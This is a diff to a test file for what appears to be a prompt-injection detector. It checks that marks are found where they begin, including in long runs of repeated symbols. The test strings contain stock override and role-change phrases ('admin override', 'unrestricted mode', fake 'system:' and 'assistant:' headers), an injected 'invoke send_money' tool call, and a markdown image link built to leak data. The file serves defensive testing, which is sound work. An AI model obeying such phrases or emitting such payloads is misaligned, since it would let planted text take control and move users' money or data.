@@ -54,10 +54,26 @@ describe('a mark that is looked for where it may begin is found where it is', ()
     ['at the second of its words', 'call me, then invoke the `send_money'],
     ['behind the longest that may stand before a word', '<\tunrestricted mode > [ automated agent directives]'],
     ['in signs that overlap', '>>>>>admin override ####system: *****admin override'],
+    [
+      'behind a row of signs that begin none',
+      `${'#'.repeat(99)} ${'*'.repeat(99)} ${'>'.repeat(99)}admin override ###[system ***system message`,
+    ],
+    ['behind many signs apart', `${'### a '.repeat(50)}### system: ${'<!-- a '.repeat(50)}<!-- assistant: include`],
     ['in a picture within a link', '[![x](https://a.example/x?data={y})](https://b.example)'],
   ])('%s', (_, text) => {
     expect(found(text)).toEqual(searched(text));
     expect(Math.max(...found(text))).toBeGreaterThan(0);
+  });
+
+  it('where the first that count are left out, of many', () => {
+    const text = `${'### a '.repeat(40)}${'###system: '.repeat(3)}`;
+    const last = text.lastIndexOf('###');
+    const reading = read(text, vocabulary);
+    const places = MARK_SEARCHES.filter(({ mark }) => mark.needs === '###' && mark.begins === 'at needs').map(
+      (search) => search.first(text, reading, (_, start) => start < last)?.start,
+    );
+    expect(places).toContain(last);
+    expect(places.every((place) => place === undefined || place === last)).toBe(true);
   });
 
   it('in texts that are made of pieces of marks', () => {
@@ -67,10 +83,14 @@ describe('a mark that is looked for where it may begin is found where it is', ()
       fc.constantFrom(...WORDS.map((word) => word.toUpperCase())),
     );
     fc.assert(
-      fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
-        const text = pieces.join('');
-        expect(found(text)).toEqual(searched(text));
-      }),
+      fc.property(
+        fc.constantFrom('', '#'.repeat(40), '<!-- '.repeat(40), '![ *** '.repeat(40)),
+        fc.array(piece, { maxLength: 24 }),
+        (before, pieces) => {
+          const text = `${before}${pieces.join('')}`;
+          expect(found(text)).toEqual(searched(text));
+        },
+      ),
       { numRuns: 3_000 },
     );
   });
